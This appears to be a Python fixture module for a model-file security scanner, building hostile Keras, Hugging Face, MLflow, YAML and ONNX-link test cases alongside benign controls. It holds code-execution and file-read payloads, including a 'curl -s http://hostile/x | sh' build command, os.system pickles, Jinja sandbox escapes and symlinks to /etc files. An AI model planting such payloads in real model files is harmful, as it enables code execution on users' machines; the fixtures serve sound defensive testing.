"""Folders of models: Keras, Hugging Face, MLflow and links, whose loaders import code."""

import json

from hostile_containers import archive, torch_zip
from hostile_pickles import COMMAND, EMPTY, HOSTILE
from hostile_tensors import external, field, node, onnx

LINK, HARD_LINK = "symbolic link", "hard link"
HDF5 = b"\x89HDF\r\n\x1a\n" + bytes(2040)


def layer(kind, config=None, module="keras.layers", registered=None):
    """A layer of Keras 3."""
    return {
        "module": module,
        "class_name": kind,
        "config": config or {},
        "registered_name": registered,
        "build_config": {"input_shape": [None, 4]},
    }


def sequential(*layers, **more):
    """A model of these layers."""
    config = {"name": "m", "trainable": True, "layers": list(layers)}
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": config,
        "registered_name": None,
        **more,
    }


def keras(config, *members):
    """A `.keras` without weights."""
    return archive(
        ("metadata.json", b'{"keras_version": "3.13.0"}'),
        ("config.json", json.dumps(config).encode()),
        *members,
    )


MARSHALLED = {
    "class_name": "__lambda__",
    "config": {"code": "4wAAAAA=", "defaults": None, "closure": None},
}
LAMBDA = layer("Lambda", {"name": "l", "function": MARSHALLED})


def all_keras():
    """Keras, as a zip and as JSON."""
    inner = sequential(LAMBDA)
    function = {
        "module": "builtins",
        "class_name": "function",
        "config": "eval",
        "registered_name": "function",
    }
    cases = {
        "lambda": sequential(LAMBDA),
        "lambda-nested": sequential(layer("TimeDistributed", {"layer": LAMBDA})),
        "lambda-in-model": sequential(inner),
        "lambda-in-compile-config": sequential(
            layer("Dense", {"units": 1}), compile_config={"loss": LAMBDA}
        ),
        "lambda-in-metrics": sequential(compile_config={"metrics": [[MARSHALLED]]}),
        "lambda-registered": sequential(layer("Dense", registered="Lambda")),
        "lambda-marshalled-activation": sequential(layer("Dense", {"activation": MARSHALLED})),
        "tfsm-layer": sequential(layer("TFSMLayer", {"filepath": "../hostile"})),
        "torch-module-wrapper": sequential(layer("TorchModuleWrapper", {"module": "UEsDBA=="})),
        "flax-layer": sequential(layer("FlaxLayer", {"module": "x"})),
        "module-os": sequential(layer("system", COMMAND, module="os")),
        "module-subprocess": sequential(layer("Popen", {"args": "echo"}, module="subprocess")),
        "module-in-model": {"module": "hostile", "class_name": "Model", "config": {}},
        "function-builtins": sequential(layer("Dense", {"activation": function})),
        "function-get-file": sequential(
            layer(
                "Dense",
                {
                    "activation": {
                        "module": "keras.utils",
                        "class_name": "function",
                        "config": "get_file",
                        "registered_name": "get_file",
                    }
                },
            )
        ),
        "function-load-model": sequential(
            layer(
                "Dense",
                {
                    "activation": {
                        "module": "keras.models",
                        "class_name": "function",
                        "config": "load_model",
                        "registered_name": "load_model",
                    }
                },
            )
        ),
        "unsafe-deserialization": sequential(
            layer(
                "Dense",
                {
                    "fn": {
                        "module": "keras.config",
                        "class_name": "function",
                        "config": "enable_unsafe_deserialization",
                        "registered_name": "function",
                    }
                },
            )
        ),
        "custom-class": sequential(
            layer("Hostile", module="hostile.layers", registered="Custom>Hostile")
        ),
        "vocabulary-path": sequential(layer("StringLookup", {"vocabulary": "/etc/hostname"})),
        "vocabulary-text": sequential(layer("TextVectorization", {"vocabulary": "../../x.txt"})),
        "layer-name-path": sequential(layer("Dense", {"name": "../../../tmp/hostile", "units": 1})),
        "layer-name-path-long": sequential(
            layer("Dense", {"name": "a" * 200 + "/../../../tmp/hostile", "units": 1})
        ),
        "model-name-path": {**sequential(), "config": {"name": "/tmp/hostile", "layers": []}},
        "get-config-call": sequential(
            layer("Dense", {"__class__": "x", "module": "os", "class_name": "system"})
        ),
        "units-endless": sequential(layer("Dense", {"units": 10**18})),
        "units-beyond-64-bits": sequential(layer("Dense", {"units": 10**30})),
        "shape-endless": sequential(layer("Reshape", {"target_shape": [4, 10**12]})),
    }
    for family, config in cases.items():
        yield f"keras-{family}", "model.keras", keras(config)
    for family in ("lambda", "tfsm-layer", "custom-class", "lambda-in-model"):
        yield f"keras-json-{family}", "model.json", json.dumps(cases[family]).encode()
    yield (
        "keras-config-duplicate-key",
        "model.keras",
        archive(
            ("metadata.json", b"{}"),
            (
                "config.json",
                json.dumps(sequential()).encode()[:-1]
                + b', "config": '
                + json.dumps(LAMBDA).encode()
                + b"}",
            ),
        ),
    )
    yield "keras-pickle-asset", "model.keras", keras(sequential(), ("assets/x.pkl", HOSTILE))
    yield (
        "keras-external-weights",
        "model.keras",
        keras(
            sequential(layer("Dense", {"units": 1})), ("model.weights.h5", HDF5 + b"/etc/hostname")
        ),
    )
    yield "keras-weights-pickle", "model.keras", keras(sequential(), ("model.weights.h5", HOSTILE))
    yield "keras-h5-lambda", "model.h5", HDF5 + json.dumps(sequential(LAMBDA)).encode()
    yield "keras-h5-behind-block", "model.bin", bytes(512) + HDF5
    yield (
        "keras-yaml",
        "model.yaml",
        b"class_name: Sequential\nx: !!python/object/apply:os.getcwd []\n",
    )
    yield "keras-metadata-pb", "keras_metadata.pb", field(1, field(5, json.dumps(LAMBDA)))


def all_configurations():
    """JSON, YAML and templates whose readers import or run."""
    documents = {
        "auto-map": ("config.json", {"auto_map": {"AutoModel": "modeling_hostile.Hostile"}}),
        "auto-map-other-repository": (
            "config.json",
            {"auto_map": {"AutoModel": "owner/x--m.Hostile"}},
        ),
        "auto-map-tokenizer": (
            "tokenizer_config.json",
            {"auto_map": {"AutoTokenizer": ["t.Hostile", None]}},
        ),
        "auto-map-processor": (
            "preprocessor_config.json",
            {"auto_map": {"AutoProcessor": "p.Hostile"}},
        ),
        "auto-map-nested": (
            "config.json",
            {"vision_config": {"auto_map": {"AutoConfig": "x.Hostile"}}},
        ),
        "auto-map-in-text": ("config.json", {"text_config": {"trust_remote_code": True}}),
        "trust-remote-code": ("config.json", {"trust_remote_code": True}),
        "trust-remote-code-number": ("config.json", {"trust_remote_code": 1}),
        "custom-pipelines": ("config.json", {"custom_pipelines": {"x": {"impl": "x.Hostile"}}}),
        "diffusers-pipeline": ("model_index.json", {"_class_name": ["pipeline", "Hostile"]}),
        "diffusers-component": (
            "model_index.json",
            {"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Hostile"]},
        ),
        "diffusers-component-os": (
            "model_index.json",
            {"_class_name": "X", "unet": ["os", "system"]},
        ),
        "diffusers-component-modular": (
            "modular_model_index.json",
            {"unet": [None, None, {"repo": "owner/x", "type_hint": ["os", "system"]}]},
        ),
        "diffusers-component-upper-case": ("MODEL_INDEX.JSON", {"unet": ["my_unet", "Hostile"]}),
        "target-json": ("config.json", {"model": {"target": "hostile.Model", "params": {}}}),
        "hydra-in-booster": ("config.json", {"learner": {"attributes": {"_target_": "os.system"}}}),
        "auto-map-beside-nan": (
            "config.json",
            {"eps": float("nan"), "auto_map": {"AutoModel": "x.Hostile"}},
        ),
        "diffusers-auto-map": (
            "modular_model_index.json",
            {"auto_map": {"ModularPipelineBlocks": "b.Hostile"}},
        ),
        "adapter-auto-mapping": (
            "adapter_config.json",
            {"auto_mapping": {"parent_library": "os", "base_model_class": "system"}},
        ),
        "sentence-transformers": (
            "modules.json",
            [{"idx": 0, "name": "0", "path": "", "type": "hostile.Module"}],
        ),
        "sentence-transformers-path": (
            "modules.json",
            [{"idx": 0, "path": "../../x", "type": "sentence_transformers.models.Transformer"}],
        ),
        "base-model-elsewhere": (
            "adapter_config.json",
            {
                "base_model_name_or_path": "owner/hostile",
                "revision": None,
                "auto_mapping": {"parent_library": "x"},
            },
        ),
        "hydra-json": ("config.json", {"model": {"_target_": "os.system", "command": COMMAND}}),
        "weight-map-parent": (
            "model.safetensors.index.json",
            {"weight_map": {"a": "../../hostile.bin"}},
        ),
        "weight-map-absolute": (
            "pytorch_model.bin.index.json",
            {"weight_map": {"a": "/tmp/hostile.bin"}},
        ),
        "jsonpickle": (
            "model.json",
            {
                "py/object": "os.system",
                "py/reduce": [{"py/function": "os.getcwd"}, {"py/tuple": []}],
            },
        ),
        "triton-tensorizer": ("config.json", {"loader_module": "os"}),
        "chat-template": (
            "tokenizer_config.json",
            {"chat_template": "{{ ''.__class__.__mro__[1] }}"},
        ),
        "chat-template-list": (
            "tokenizer_config.json",
            {"chat_template": [{"name": "a", "template": "{{ x.__globals__ }}"}]},
        ),
        "chat-template-attr": (
            "processor_config.json",
            {"chat_template": "{{ x|attr('__class__') }}"},
        ),
        "attention-kernel": ("config.json", {"_attn_implementation_internal": "owner/hostile"}),
        "activation-function": ("config.json", {"activation_function": "os.abort"}),
        "cross-encoder": ("config.json", {"sentence_transformers": {"activation_fn": "os.abort"}}),
        "router-types": ("router_config.json", {"types": {"query_0_X": "hostile.Module"}}),
        "megatron-core": (
            "adapter_config.json",
            {"megatron_core": "hostile", "megatron_config": {}},
        ),
        "mlserver-implementation": ("model-settings.json", {"implementation": "hostile.Runtime"}),
        "mlserver-environment": (
            "model-settings.json",
            {"parameters": {"environment_tarball": "env.tar.gz"}},
        ),
        "mlserver-repository": (
            "settings.json",
            {"model_repository_implementation": "hostile.Repository"},
        ),
        "mlserver-logging": (
            "settings.json",
            {"logging_settings": {"handlers": {"h": {"()": "os.abort"}}}},
        ),
        "onnx-genai-library": (
            "genai_config.json",
            {"model": {"decoder": {"session_options": {"custom_ops_library": "hostile.so"}}}},
        ),
        "triton-vllm": ("model.json", {"model": "owner/hostile"}),
        "mmengine-imports": ("config.json", {"custom_imports": {"imports": ["hostile"]}}),
        "tokenizer-files": ("tokenizer_config.json", {"fast_tokenizer_files": ["../../t.json"]}),
        "tokenizer-vocabulary": ("tokenizer_config.json", {"vocab_file": "/etc/passwd"}),
        "sentence-tokenizer": (
            "sentence_roberta_config.json",
            {"tokenizer_name_or_path": "owner/hostile"},
        ),
        "diffusers-modular-repository": (
            "modular_model_index.json",
            {"unet": ["diffusers", "U", {"pretrained_model_name_or_path": "owner/hostile"}]},
        ),
        "mlc-library": ("mlc-chat-config.json", {"model_lib": "https://hostile/x.so"}),
        "vllm-connector": ("model.json", {"ec_connector_module_path": "hostile"}),
        "requirement-address": ("config.json", {"x": ["hostile @ https://hostile/x.zip"]}),
        "hub-file": ("config.json", {"backbone": "hf:hostile/x/file.bin"}),
        "mmengine-type": ("model_config.json", {"model": {"type": "os.system"}}),
        "mmengine-base": ("model_config.json", {"_base_": "https://hostile/x.py"}),
        "unlisted-import": ("config.json", {"other": ["hostile.module"]}),
        "chat-template-key-escaped": ("tokenizer_config.json", {}),
        "duplicate-key": ("config.json", {}),
    }
    for family, (file, document) in documents.items():
        content = json.dumps(document).encode()
        if family == "duplicate-key":
            content = b'{"auto_map": {"AutoModel": "x.Hostile"}, "auto_map": null}'
        if family == "chat-template-key-escaped":
            content = b'{"\\u0063hat_template": "{{ \'\'.__class__ }}"}'
        yield f"folder-{family}", file, content
    files = {
        "template-file": ("chat_template.jinja", b"{{ cycler.__init__.__globals__.os }}"),
        "template-folder": ("additional_chat_templates/tool.jinja", b"{{ ''.__class__ }}"),
        "python-file": ("modeling_hostile.py", b"print('hostile')\n"),
        "python-cache": ("__pycache__/m.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12)),
        "custom-generate": ("custom_generate/generate.py", b"print('hostile')\n"),
        "setup-py": ("setup.py", b"print('hostile')\n"),
        "setup-cfg": ("setup.cfg", b"[options]\ninstall_requires = hostile\n"),
        "pyproject": ("pyproject.toml", b"[build-system]\nbuild-backend = 'hostile'\n"),
        "notebook": ("demo.ipynb", b'{"cells": []}'),
        "site-packages-pth": ("hostile.pth", b"import os; print(os.getcwd())\n"),
        "config-upper-case": ("CONFIG.JSON", b'{"auto_map": {"AutoModel": "x.Hostile"}}'),
        "hydra-yaml": ("config.yaml", b"model:\n  _target_: os.system\n"),
        "hydra-yaml-lines": ("config.yaml", b'{"_tar\\\nget_": os.system}\n'),
        "yaml-template": ("instruction.yaml", b"chat_template: \"{{ ''.__class__ }}\"\n"),
        "yaml-key-glued": ("config.yaml", b"{model: {?_target_: os.system, command: id}}\n"),
        "yaml-key-glued-quoted": ("config.yaml", b'{a: b, ?"_target_": os.system}\n'),
        "yaml-key-glued-serve": (
            "serve_config.yaml",
            b"applications: [{name: a, ?import_path: hostile, ?runtime_env: {pip: [x]}}]\n",
        ),
        "yaml-block-at-root": ("config.yaml", b"|\n---\n_target_: os.system\n"),
        "yaml-block-folded": ("config.yaml", b"--- >\n--\n---\n_target_: os.system\n"),
        "yaml-anchor-glued": ("other.yaml", b"trust_remote_code: &k?true\n"),
        "yaml-line-break": ("config.yaml", "a: 1 #\u2028_target_: os.system\n".encode()),
        "ray-serve": ("serve_config.yaml", b"applications:\n- import_path: hostile:app\n"),
        "ray-serve-other-name": ("serve.yaml", b"applications:\n- import_path: hostile:app\n"),
        "truss": ("config.yaml", b"build_commands: ['curl -s http://hostile/x | sh']\n"),
        "cog": ("cog.yaml", b"predict: predict.py:Predictor\n"),
        "bentoml-built": ("bento.yaml", b"service: hostile:svc\n"),
        "bentoml-model": ("model.yaml", b"name: x\nmodule: hostile.module\n"),
        "keras-module": ("keras_module.txt", b"hostile.module"),
        "pickle-module": ("pickle_module_info.txt", b"hostile"),
        "bentoml": ("bentofile.yaml", b"service: hostile:svc\n"),
        "torchserve-handler": ("model-config.yaml", b"handler: hostile\n"),
        "logging-yaml": ("other.yaml", b"handlers:\n  h:\n    class: hostile.Handler\n"),
        "logging-sections": ("logging.cfg", b"[loggers]\nkeys=root\n"),
        "entry-points": ("hostile.dist-info/entry_points.txt", b"[x]\na = hostile:b\n"),
        "yaml-python": ("config.yml", b"x: !!python/object/apply:os.getcwd []\n"),
        "yaml-python-verbatim": (
            "config.yml",
            b"x: !<tag:yaml.org,2002:python/object/apply:os.getcwd> []\n",
        ),
        "yaml-in-no-extension": ("MLmodel", b"x: !!python/object/apply:os.getcwd []\n"),
        "mlflow-loader-module": (
            "MLmodel",
            b"flavors:\n  python_function:\n    loader_module: hostile\n    code: code\n",
        ),
        "mlflow-loader-yaml": (
            "MLmodel.yaml",
            b"flavors:\n  python_function:\n    loader_module: hostile\n",
        ),
        "mlflow-python-model": ("python_model.pkl", HOSTILE),
        "mlflow-model-code-path": (
            "MLmodel",
            b"flavors:\n  python_function:\n    model_code_path: ../x.py\n"
            b"    loader_module: mlflow.pyfunc.model\n",
        ),
        "triton-python-backend": (
            "config.pbtxt",
            b'backend: "python"\n'
            b'parameters: { key: "EXECUTION_ENV_PATH" value: { string_value: "../x" } }\n',
        ),
        "dockerfile": ("Dockerfile", b"FROM scratch\nRUN echo hostile\n"),
        "makefile": ("Makefile", b"all:\n\techo hostile\n"),
        "shell-no-extension": ("setup", b"#!/bin/sh\necho hostile\n"),
        "svg-script": (
            "card.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
        ),
        "html": ("card.html", b"<script>1</script>"),
    }
    for family, (file, content) in files.items():
        yield f"folder-{family}", file, content


def all_boosters():
    """XGBoost, LightGBM and others."""
    yield "xgboost-cut", "model.json", b'{"learner": {"attributes": {'
    yield "xgboost-pickle-inside", "model.ubj", b"{L\0\0\0\0\0\0\0\7learner" + HOSTILE
    yield "xgboost-old-binary", "model.bst", b"binf" + bytes(64)
    yield "lightgbm-cut", "model.txt", b"tree\nversion=v4\nnum_class=99999999999999999999\n"
    yield "lightgbm-pickle", "model.txt", b"cos\nsystem\n(S'echo hostile'\ntR."
    yield "catboost", "model.cbm", b"CBM1" + bytes(64)


def all_links():
    """Folders with links. The loader reads what they name."""
    model = onnx(node("Relu"), field(5, external("w.bin")))
    yield (
        "onnx-symbolic-link",
        "model.onnx",
        {"model.onnx": model, "w.bin": (LINK, "/etc/hostname")},
    )
    yield "onnx-hard-link", "model.onnx", {"model.onnx": model, "w.bin": (HARD_LINK, b"secret")}
    for family, content in {
        "short": b"\xa5" * 3,
        "longer": b"\xa5" * 5,
        "padded": b"\xa5" * 4 + bytes(1 << 16),
        "pickle": HOSTILE,
        "zip": b"PK\x03\x04",
    }.items():
        yield f"onnx-data-{family}", None, {"model.onnx": model, "w.bin": content}
    for name in ("pytorch_model.bin", "modeling.py", "w.safetensors"):
        model = onnx(node("Relu"), field(5, external(name)))
        yield f"onnx-data-named-{name}", None, {"model.onnx": model, name: b"\xa5" * 4}
    yield (
        "onnx-link-to-folder",
        "model.onnx",
        {
            "model.onnx": onnx(node("Relu"), field(5, external("d/w.bin"))),
            "d": (LINK, "/etc"),
        },
    )
    yield "folder-link-to-pickle", None, {"model.safetensors": (LINK, "../elsewhere.pkl")}
    yield "folder-link-broken", None, {"model.safetensors": (LINK, "nothing")}
    yield "folder-link-to-itself", None, {"model.safetensors": (LINK, "model.safetensors")}
    yield "folder-link-to-parent", None, {"a": (LINK, "..")}
    yield "folder-fifo", None, {"model.safetensors": ("pipe", None)}
    yield "folder-name-of-controls", None, {"a\x1b[2J\n.pkl": HOSTILE}
    yield "folder-name-not-utf8", None, {b"a\xff.pkl".decode("utf8", "surrogateescape"): HOSTILE}
    yield "folder-hidden", None, {".cache/.x": HOSTILE}
    yield "folder-torch-in-onnx-name", None, {"model.onnx": torch_zip(EMPTY)}


def fixtures():
    """Families with the judged file (None: any) and its content or the files of a folder."""
    yield from all_keras()
    yield from all_configurations()
    yield from all_boosters()
    yield from all_links()


def controls():
    """Files of data."""
    yield (
        "control-onnx-data",
        None,
        {"model.onnx": onnx(node("Relu"), field(5, external("w.bin"))), "w.bin": b"\xa5" * 4},
    )
    yield (
        "control-config",
        "config.json",
        b'{"architectures": ["LlamaForCausalLM"], "hidden_size": 8}',
    )
    yield (
        "control-config-nan",
        "config.json",
        b'{"auto_map": null, "eps": NaN, "limits": [-Infinity, Infinity]}',
    )
    yield (
        "control-model-index",
        "model_index.json",
        b'{"_class_name": "P", "unet": ["diffusers", "U"], "safety_checker": [null, null]}',
    )
    yield "control-booster", "model.json", b'{"version": [2, 1, 0], "learner": {"attributes": {}}}'
    yield "control-template", "chat_template.jinja", b"{{ messages[0]['role'] }}"
    yield "control-readme", "README.md", b"# A model\n"
    yield "control-keras", "a.keras", keras(sequential(layer("Dense", {"name": "d", "units": 1})))
